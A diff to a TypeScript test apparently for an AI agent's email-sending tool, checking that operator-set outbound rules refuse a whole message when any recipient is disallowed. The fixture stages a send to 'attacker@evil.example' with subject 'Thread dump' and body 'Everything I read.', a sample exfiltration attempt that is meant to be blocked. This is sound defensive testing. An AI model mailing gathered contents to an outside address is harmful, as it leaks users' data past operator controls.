@@ -57,14 +57,19 @@ async function closeChannel(w: W, runId: string): Promise<void> {
 
 describe("deliver checks the outbound rules before queueing (issue 14)", () => {
   it("new-mode mail to a disallowed address is refused whole: nothing queued, the model and the trace see why", async () => {
-    const w = world([
-      send({
-        mode: "new",
-        to: ["ops@agents.example.net", "attacker@evil.example"],
-        subject: "Thread dump",
-        body: "Everything I read.",
-      }),
-    ]);
+    // ops@ is allowed by a rule naming its domain (since issue 20 a sender's run has no default reach), so it is
+    // held back only because the attacker in the same request is refused.
+    const w = world(
+      [
+        send({
+          mode: "new",
+          to: ["ops@agents.example.net", "attacker@evil.example"],
+          subject: "Thread dump",
+          body: "Everything I read.",
+        }),
+      ],
+      { outboundRules: [rule("*@agents.example.net", "allow")] },
+    );
     const runId = await w.startReplyRun();
     await w.drive(runId);
     expect(outbound(w)).toEqual([]);
@@ -72,8 +77,7 @@ describe("deliver checks the outbound rules before queueing (issue 14)", () => {
     expect(seen.error).toBe("recipient-not-allowed");
     expect(seen.message).toContain("attacker@evil.example");
     expect(seen.message).toContain("outbound rules, set by the operator");
-    // Issue 20: the run was started by a sender's mail and no rule names the registered domain's address either.
-    expect(seen.message).toContain("ops@agents.example.net");
+    expect(seen.message).not.toContain("ops@agents.example.net");
     const events = await w.log.list(runId);
     expect(events.find((e) => e.type === "tool-result")?.data).toMatchObject({
       name: "send_email",
